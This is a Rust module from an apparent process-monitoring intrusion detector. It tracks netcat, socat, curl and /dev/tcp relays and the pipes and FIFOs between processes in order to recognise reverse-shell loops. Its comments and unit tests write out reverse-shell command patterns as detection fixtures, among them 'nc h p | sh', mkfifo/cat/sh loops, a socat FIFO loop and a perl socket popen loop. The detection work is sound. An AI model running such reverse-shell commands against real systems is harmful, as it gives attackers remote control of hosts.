//! What the detectors share about how processes are wired to the network: which processes relay
//! a network connection to a program (socat with an EXEC address, netcat), which other programs
//! talk to the network while wired to pipes (telnet, `openssl s_client`, `curl telnet://`, socat
//! without EXEC, a `cat` of `/dev/tcp`), and which stdio pipes connect which processes, so that
//! a shell fed through `nc | sh`, a FIFO loop or any such client is seen as fed by the network.
//! Also which shells and interpreters hold a connection of their own and run commands for it
//! (a popen or coprocess loop: ruby `IO.popen`, gawk `|&`, node `child_process`).

/// Looked up on every fork, exec and exit: foldhash, not SipHash (keys are pids, start times and
/// inode numbers, not strings a workload chooses).
type HashMap<K, V> = std::collections::HashMap<K, V, foldhash::fast::RandomState>;
type HashSet<K> = std::collections::HashSet<K, foldhash::fast::RandomState>;

use super::{
    spec::{put, Props, Render},
    tools::{
        identify,
        program::{program_source, ProgramSource},
        ToolKind, ToolLists,
    },
};
use crate::{
    event::{ProcessKey, Stdio},
    process::{table::Connection as HeldConnection, Process, ProcessTable},
};

/// Why a process's standard input or output counts as coming from the network.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum NetworkFed {
    /// fd 0 (or 1/2) is an inet socket with a remote peer.
    Direct {
        /// The fd.
        fd: u8,
        /// The socket.
        socket: Stdio,
    },
    /// A network relay feeds it: its parent (socat EXEC) or a pipe chain from netcat.
    Relay {
        /// The relaying process.
        relay: ProcessKey,
    },
    /// It reads its program from stdin, and a network client that is not a netcat feeds that
    /// through pipes or a FIFO ([`RelayKind::Client`]).
    Piped {
        /// The client.
        relay: ProcessKey,
    },
}

/// Kind of relay.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RelayKind {
    /// Runs a program for a network peer (socat EXEC/SYSTEM, netcat -e/-c/--sh-exec): the
    /// programs it starts are fed by the network, whatever their stdio looks like.
    Exec,
    /// A netcat process talking to the network on its stdio.
    Netcat,
    /// Another program wired to pipes that talks to the network: it made or accepted a
    /// connection, or has a socket on its stdio (telnet, `openssl s_client`, `curl telnet://`,
    /// socat without EXEC, `cat </dev/tcp/…`). It feeds a shell only a program to run: the
    /// shell or interpreter it drives must read its program from stdin (`| sh`, not
    /// `| python3 -c 'json…'`).
    Client,
}

/// A network relay and the shell it drives through pipes or a FIFO (`nc h p | sh`,
/// `mkfifo f; cat f | sh -i 2>&1 | nc h p > f`, `sh -i <f 2>&1 | socat - TCP:h:p >f`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct WiredLoop {
    /// The relay (a netcat or another network client).
    pub relay: ProcessKey,
    /// What kind of relay.
    pub kind: RelayKind,
    /// What tool the relay is.
    pub tool: ToolKind,
    /// The shell (or interpreter) it feeds.
    pub shell: ProcessKey,
}

/// Evidence of a process fed by a network relay.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Relayed {
    /// The relaying process.
    pub relay: ProcessKey,
}

impl Render for Relayed {
    fn render(&self, props: &mut Props) {
        put(props, "Network_Relay_Pid", self.relay.pid);
    }
}

/// Relays and stdio pipes of live processes.
#[derive(Default)]
pub struct NetState {
    relays: HashMap<ProcessKey, (RelayKind, ToolKind)>,
    /// pipe inode → processes that read it on stdin.
    readers: HashMap<u64, Vec<ProcessKey>>,
    /// pipe inode → processes that write it on stdout/stderr.
    writers: HashMap<u64, Vec<ProcessKey>>,
    /// What each process was indexed under, to undo on exit or re-exec.
    indexed: HashMap<ProcessKey, [Option<u64>; 3]>,
    /// Relay/shell loops already reported (relay, shell): every later exec in a loop finds it
    /// again.
    loops_seen: HashSet<(ProcessKey, ProcessKey)>,
}

fn push(map: &mut HashMap<u64, Vec<ProcessKey>>, ino: u64, key: ProcessKey) {
    let v = map.entry(ino).or_default();
    if !v.contains(&key) {
        v.push(key);
    }
}

fn remove(map: &mut HashMap<u64, Vec<ProcessKey>>, ino: u64, key: ProcessKey) {
    if let Some(v) = map.get_mut(&ino) {
        v.retain(|k| *k != key);
        if v.is_empty() {
            map.remove(&ino);
        }
    }
}

/// True when `p` is a shell or interpreter that reads its program from stdin (`sh`, `sh -i`,
/// `python3 -`): bytes piped into it are run.
fn reads_program_from_stdin(p: &Process, lists: &ToolLists) -> bool {
    let id = identify(&p.exe, &p.argv, lists);
    matches!(id.kind, ToolKind::Shell | ToolKind::Interpreter)
        && program_source(id.name, id.kind == ToolKind::Shell, &p.argv[id.args_from..]) == Some(ProgramSource::Stdin)
}

/// Maximum pipe hops between a netcat and the shell it feeds (nc → cat → sh through a FIFO).
const MAX_HOPS: usize = 2;

impl NetState {
    /// Record a relay and what tool it is.
    pub fn add_relay(&mut self, key: ProcessKey, kind: RelayKind, tool: ToolKind) {
        self.relays.insert(key, (kind, tool));
    }

    /// The relay kind of a process, if it is one.
    pub fn relay(&self, key: &ProcessKey) -> Option<RelayKind> {
        self.relays.get(key).map(|r| r.0)
    }

    /// The tool a relay is.
    pub fn relay_tool(&self, key: &ProcessKey) -> Option<ToolKind> {
        self.relays.get(key).map(|r| r.1)
    }

    /// Index a process's stdio pipes (after its exec; replaces what it had).
    pub fn index_stdio(&mut self, p: &Process) {
        self.forget_stdio(&p.key);
        let mut inos = [None; 3];
        for (fd, s) in p.stdio.iter().enumerate() {
            if let Some(ino) = s.pipe_ino() {
                if fd == 0 {
                    push(&mut self.readers, ino, p.key);
                } else {
                    push(&mut self.writers, ino, p.key);
                }
                inos[fd] = Some(ino);
            }
        }
        if inos.iter().any(Option::is_some) {
            self.indexed.insert(p.key, inos);
        }
    }

    fn forget_stdio(&mut self, key: &ProcessKey) {
        if let Some(inos) = self.indexed.remove(key) {
            for (fd, ino) in inos.iter().enumerate() {
                if let Some(ino) = ino {
                    if fd == 0 {
                        remove(&mut self.readers, *ino, *key);
                    } else {
                        remove(&mut self.writers, *ino, *key);
                    }
                }
            }
        }
    }

    /// Forget a process that exited.
    pub fn forget(&mut self, key: &ProcessKey) {
        self.forget_stdio(key);
        self.relays.remove(key);
        if !self.loops_seen.is_empty() {
            self.loops_seen.retain(|(r, s)| r != key && s != key);
        }
    }

    /// Keep only the loops not reported before, and remember them as reported.
    pub fn first_seen(&mut self, loops: &mut Vec<WiredLoop>) {
        loops.retain(|w| self.loops_seen.insert((w.relay, w.shell)));
    }

    /// Processes whose stdin `from`'s stdout/stderr reach through at most [`MAX_HOPS`] pipes.
    pub fn downstream(&self, table: &ProcessTable, from: &Process) -> Vec<ProcessKey> {
        let mut found = Vec::new();
        let mut frontier: Vec<u64> = from.stdio[1..].iter().filter_map(Stdio::pipe_ino).collect();
        for _ in 0..MAX_HOPS {
            let mut next = Vec::new();
            for ino in frontier {
                for r in self.readers.get(&ino).into_iter().flatten() {
                    if *r == from.key || found.contains(r) {
                        continue;
                    }
                    found.push(*r);
                    if let Some(rp) = table.get(*r) {
                        next.extend(rp.stdio[1..].iter().filter_map(Stdio::pipe_ino));
                    }
                }
            }
            if next.is_empty() {
                break;
            }
            frontier = next;
        }
        found
    }

    /// Processes whose stdout/stderr reach `to`'s stdin through at most [`MAX_HOPS`] pipes.
    pub fn upstream(&self, table: &ProcessTable, to: &Process) -> Vec<ProcessKey> {
        let mut found = Vec::new();
        let mut frontier: Vec<u64> = to.stdio[0].pipe_ino().into_iter().collect();
        for _ in 0..MAX_HOPS {
            let mut next = Vec::new();
            for ino in frontier {
                for w in self.writers.get(&ino).into_iter().flatten() {
                    if *w == to.key || found.contains(w) {
                        continue;
                    }
                    found.push(*w);
                    if let Some(wp) = table.get(*w) {
                        next.extend(wp.stdio[0].pipe_ino());
                    }
                }
            }
            if next.is_empty() {
                break;
            }
            frontier = next;
        }
        found
    }

    /// True when netcat `nc` drives `shell`: its output reaches the shell's stdin through pipes
    /// (`nc h p | sh`), or the shell's output reaches netcat and netcat writes into a named FIFO
    /// (the `mkfifo f; cat f | sh -i 2>&1 | nc h p > f` loop, where cat reads the FIFO by name).
    pub fn drives(&self, table: &ProcessTable, nc: &Process, shell: &Process) -> bool {
        self.downstream(table, nc).contains(&shell.key)
            || (nc.stdio[1].is_named_fifo() && self.upstream(table, nc).contains(&shell.key))
    }

    /// Netcat relays wired to `p` (either direction) that drive `shell`.
    pub fn netcats_driving(&self, table: &ProcessTable, p: &Process, shell: &Process) -> Vec<ProcessKey> {
        let mut out = Vec::new();
        let mut around = self.upstream(table, p);
        around.extend(self.downstream(table, p));
        if self.relay(&p.key) == Some(RelayKind::Netcat) {
            around.push(p.key);
        }
        for k in around {
            if self.relay(&k) != Some(RelayKind::Netcat) || out.contains(&k) {
                continue;
            }
            if let Some(nc) = table.get(k) {
                if self.drives(table, nc, shell) {
                    out.push(k);
                }
            }
        }
        out
    }

    /// The relay/shell pipe loops `p` is a member of, found when `p` exec'd or connected: the
    /// event that completes a loop may come from any member of it, the relay, the shell or a
    /// `cat` between them. A netcat feeds any shell or interpreter; another client only one
    /// that reads its program from stdin.
    pub fn wired_loops(&self, table: &ProcessTable, p: &Process, lists: &ToolLists) -> Vec<WiredLoop> {
        let mut out = Vec::new();
        if !p.stdio.iter().any(|s| s.pipe_ino().is_some()) {
            return out;
        }
        let mut near = self.upstream(table, p);
        near.extend(self.downstream(table, p));
        near.push(p.key);
        let mut relays: Vec<ProcessKey> = near.into_iter().filter(|k| matches!(self.relay(k), Some(RelayKind::Netcat | RelayKind::Client))).collect();
        relays.sort_unstable_by_key(|k| (k.pid, k.start));
        relays.dedup();
        for relay in relays {
            let Some(r) = table.get(relay) else { continue };
            let Some((kind, tool)) = self.relays.get(&relay).copied() else { continue };
            let mut shells = self.upstream(table, r);
            shells.extend(self.downstream(table, r));
            for sh in shells {
                let Some(shell) = table.get(sh) else { continue };
                let runs_input = match kind {
                    RelayKind::Netcat => matches!(identify(&shell.exe, &shell.argv, lists).kind, ToolKind::Shell | ToolKind::Interpreter),
                    RelayKind::Client => reads_program_from_stdin(shell, lists),
                    RelayKind::Exec => false,
                };
                if runs_input && self.drives(table, r, shell) && !out.iter().any(|w: &WiredLoop| w.relay == relay && w.shell == sh) {
                    out.push(WiredLoop { relay, kind, tool, shell: sh });
                }
            }
        }
        out
    }

    /// The shell or interpreter that runs `p` for a connection it holds itself, and that
    /// connection: `p`'s parent runs a program given on its command line or stdin (`ruby -e`,
    /// `node -e`, `gawk 'BEGIN{…}'`, `bash -c`), made or accepted a connection before `p`
    /// started, and wired `p`'s stdin or stdout to something of its own (a popen pipe, a
    /// coprocess, the socket) rather than passing down what it had. Programs run from files
    /// (an application server that runs a tool) are not judged this way.
    pub fn holder(&self, table: &ProcessTable, p: &Process, lists: &ToolLists) -> Option<(ProcessKey, HeldConnection)> {
        let parent = table.get(p.parent?)?;
        let connection = parent.connections.iter().rev().find(|c| c.ts_boot_ns <= p.exec_ts_boot_ns || p.exec_ts_boot_ns == 0)?;
        let id = identify(&parent.exe, &parent.argv, lists);
        if !matches!(id.kind, ToolKind::Shell | ToolKind::Interpreter) {
            return None;
        }
        let source = program_source(id.name, id.kind == ToolKind::Shell, &parent.argv[id.args_from..]);
        if !matches!(source, Some(ProgramSource::Inline | ProgramSource::Stdin)) {
            return None;
        }
        let wired = |s: &Stdio| matches!(s, Stdio::Pipe { .. } | Stdio::Inet(_) | Stdio::Unix { .. }) && !parent.stdio.contains(s);
        (wired(&p.stdio[0]) || wired(&p.stdio[1])).then(|| (parent.key, connection.clone()))
    }

    /// The network client ([`RelayKind::Client`]) that feeds shell or interpreter `p` its
    /// program through pipes or a FIFO, if one does.
    pub fn client_feeding(&self, table: &ProcessTable, p: &Process, lists: &ToolLists) -> Option<ProcessKey> {
        if !reads_program_from_stdin(p, lists) {
            return None;
        }
        let mut near = self.upstream(table, p);
        near.extend(self.downstream(table, p));
        near.into_iter()
            .filter(|k| self.relay(k) == Some(RelayKind::Client))
            .find(|k| table.get(*k).is_some_and(|r| self.drives(table, r, p)))
    }

    /// How `p`'s stdin (or stdout) comes from the network, if it does.
    pub fn network_fed(&self, table: &ProcessTable, p: &Process, lists: &ToolLists) -> Option<NetworkFed> {
        for fd in [0u8, 1, 2] {
            let s = &p.stdio[fd as usize];
            if s.remote().is_some() {
                return Some(NetworkFed::Direct { fd, socket: s.clone() });
            }
        }
        if let Some(parent) = p.parent {
            if self.relay(&parent) == Some(RelayKind::Exec) {
                return Some(NetworkFed::Relay { relay: parent });
            }
        }
        if p.stdio.iter().any(|s| s.pipe_ino().is_some()) {
            if let Some(relay) = self.netcats_driving(table, p, p).into_iter().next() {
                return Some(NetworkFed::Relay { relay });
            }
            if let Some(relay) = self.client_feeding(table, p, lists) {
                return Some(NetworkFed::Piped { relay });
            }
        }
        None
    }

    /// Number of relays and indexed processes (for metrics and tests).
    pub fn sizes(&self) -> (usize, usize) {
        (self.relays.len(), self.indexed.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Direction, SocketProto};

    fn key(pid: u32) -> ProcessKey {
        ProcessKey { pid, start: u64::from(pid) }
    }

    fn pipe(ino: u64) -> Stdio {
        Stdio::Pipe { ino, named: false }
    }

    fn fifo(ino: u64) -> Stdio {
        Stdio::Pipe { ino, named: true }
    }

    fn socket() -> Stdio {
        Stdio::inet(SocketProto::Tcp, "127.0.0.1:40000".parse().unwrap(), "127.0.0.1:4444".parse().unwrap(), 77)
    }

    fn proc(pid: u32, parent: u32, exe: &str, argv: &[&str], stdio: [Stdio; 3]) -> Process {
        let mut p = Process::new(key(pid));
        p.parent = Some(key(parent));
        p.exe = exe.into();
        p.argv = argv.iter().map(|a| (*a).into()).collect();
        p.stdio = stdio;
        p.exec_ts_boot_ns = 100;
        p
    }

    fn connected(mut p: Process) -> Process {
        p.connections.push(HeldConnection { direction: Direction::Outbound, socket: socket(), ts_boot_ns: 50 });
        p
    }

    struct World {
        table: ProcessTable,
        net: NetState,
        lists: ToolLists,
    }

    impl World {
        fn new(procs: Vec<Process>, clients: &[u32]) -> World {
            let mut table = ProcessTable::new(1_000_000_000);
            let mut net = NetState::default();
            for p in procs {
                net.index_stdio(&p);
                table.insert_seeded(p);
            }
            let lists = ToolLists::defaults_for_tests();
            for c in clients {
                let p = table.get(key(*c)).unwrap();
                net.add_relay(p.key, RelayKind::Client, identify(&p.exe, &p.argv, &lists).kind);
            }
            World { table, net, lists }
        }

        fn loops_of(&self, pid: u32) -> Vec<WiredLoop> {
            self.net.wired_loops(&self.table, self.table.get(key(pid)).unwrap(), &self.lists)
        }

        fn fed(&self, pid: u32) -> Option<NetworkFed> {
            self.net.network_fed(&self.table, self.table.get(key(pid)).unwrap(), &self.lists)
        }

        fn holder(&self, pid: u32) -> Option<ProcessKey> {
            self.net.holder(&self.table, self.table.get(key(pid)).unwrap(), &self.lists).map(|h| h.0)
        }
    }

    /// `sh -i < f 2>&1 | socat - TCP:h:p > f`: socat's stdout is the FIFO the shell reads.
    #[test]
    fn a_client_writing_the_fifo_a_shell_reads_feeds_it() {
        let w = World::new(
            vec![
                proc(10, 1, "/usr/bin/dash", &["/bin/sh", "-i"], [fifo(5), pipe(6), pipe(6)]),
                proc(11, 1, "/usr/bin/socat", &["socat", "-", "TCP:127.0.0.1:4444"], [pipe(6), fifo(5), pipe(9)]),
            ],
            &[11],
        );
        let loops = w.loops_of(11);
        assert_eq!(loops, vec![WiredLoop { relay: key(11), kind: RelayKind::Client, tool: ToolKind::Socat, shell: key(10) }]);
        assert_eq!(w.loops_of(10), loops, "found from the shell too");
        assert_eq!(w.fed(10), Some(NetworkFed::Piped { relay: key(11) }));
    }

    /// `cat f | sh -i 2>&1 | curl telnet://h:p > f`: the shell's output reaches the client, which
    /// writes the FIFO that `cat` reads by name.
    #[test]
    fn a_client_in_a_fifo_loop_through_cat_feeds_the_shell() {
        let w = World::new(
            vec![
                proc(20, 1, "/usr/bin/cat", &["cat", "/tmp/f"], [Stdio::Closed, pipe(7), pipe(9)]),
                proc(21, 1, "/usr/bin/dash", &["/bin/sh", "-i"], [pipe(7), pipe(8), pipe(8)]),
                proc(22, 1, "/usr/bin/curl", &["curl", "-sN", "telnet://127.0.0.1:4444"], [pipe(8), fifo(5), pipe(9)]),
            ],
            &[22],
        );
        assert_eq!(w.loops_of(22).len(), 1);
        assert_eq!(w.loops_of(22)[0].shell, key(21));
    }

    /// A client's bytes piped into an interpreter that runs its own inline program are data;
    /// into a shell that reads its program from stdin, code.
    #[test]
    fn only_a_program_read_from_stdin_makes_a_loop_with_a_client() {
        let data = World::new(
            vec![
                proc(30, 1, "/usr/bin/curl", &["curl", "-s", "http://127.0.0.1:4444/"], [Stdio::Closed, pipe(3), pipe(9)]),
                proc(31, 1, "/usr/bin/python3.11", &["python3", "-c", "import sys; print(len(sys.stdin.read()))"], [pipe(3), pipe(9), pipe(9)]),
            ],
            &[30],
        );
        assert!(data.loops_of(30).is_empty());
        assert_eq!(data.fed(31), None);
        let code = World::new(
            vec![
                proc(30, 1, "/usr/bin/curl", &["curl", "-s", "http://127.0.0.1:4444/"], [Stdio::Closed, pipe(3), pipe(9)]),
                proc(31, 1, "/usr/bin/bash", &["sh"], [pipe(3), pipe(9), pipe(9)]),
            ],
            &[30],
        );
        assert_eq!(code.loops_of(31).len(), 1);
        // A netcat feeds any shell or interpreter, inline program or not.
        let mut nc = World::new(
            vec![
                proc(30, 1, "/usr/bin/nc.openbsd", &["nc", "127.0.0.1", "4444"], [Stdio::Closed, pipe(3), pipe(9)]),
                proc(31, 1, "/usr/bin/python3.11", &["python3", "-c", "exec(input())"], [pipe(3), pipe(9), pipe(9)]),
            ],
            &[],
        );
        nc.net.add_relay(key(30), RelayKind::Netcat, ToolKind::Netcat(super::super::tools::NetcatFlavor::OpenBsd));
        assert_eq!(nc.loops_of(30).len(), 1);
    }

    /// A popen loop: an inline-program interpreter that connected runs `sh -c LINE` with its
    /// stdout on a pipe of its own; a shell that waited for a port and then runs a command on
    /// the stdio it was given holds nothing for it.
    #[test]
    fn a_holder_runs_commands_wired_to_itself_only() {
        let w = World::new(
            vec![
                connected(proc(40, 1, "/usr/bin/perl", &["perl", "-e", "while(<$s>){print $s `$_`}"], [Stdio::Closed, pipe(2), pipe(2)])),
                proc(41, 40, "/usr/bin/dash", &["sh", "-c", "id"], [Stdio::Closed, pipe(3), pipe(2)]),
                proc(42, 41, "/usr/bin/id", &["id"], [Stdio::Closed, pipe(3), pipe(2)]),
                connected(proc(50, 1, "/usr/bin/bash", &["bash", "-c", "until echo > /dev/tcp/h/1; do sleep 1; done; id"], [Stdio::Closed, pipe(2), pipe(2)])),
                proc(51, 50, "/usr/bin/id", &["id"], [Stdio::Closed, pipe(2), pipe(2)]),
                connected(proc(60, 1, "/usr/bin/node", &["node", "server.js"], [Stdio::Closed, pipe(2), pipe(2)])),
                proc(61, 60, "/usr/bin/dash", &["sh", "-c", "convert x y"], [pipe(4), pipe(5), pipe(6)]),
            ],
            &[],
        );
        assert_eq!(w.holder(41), Some(key(40)));
        assert_eq!(w.holder(42), None, "its parent holds no connection");
        assert_eq!(w.holder(51), None, "the command runs on the stdio its shell was given");
        assert_eq!(w.holder(61), None, "a program run from a file");
    }

    /// A program with a socket on its stdin (`cat </dev/tcp/h/p | sh | cat >/dev/tcp/h/p`).
    #[test]
    fn a_cat_of_a_socket_feeds_a_shell_reading_its_pipe() {
        let w = World::new(
            vec![
                proc(70, 1, "/usr/bin/cat", &["cat"], [socket(), pipe(3), pipe(9)]),
                proc(71, 1, "/usr/bin/dash", &["sh"], [pipe(3), pipe(4), pipe(4)]),
                proc(72, 1, "/usr/bin/cat", &["cat"], [pipe(4), socket(), pipe(9)]),
            ],
            &[70],
        );
        assert_eq!(w.fed(71), Some(NetworkFed::Piped { relay: key(70) }));
    }
}
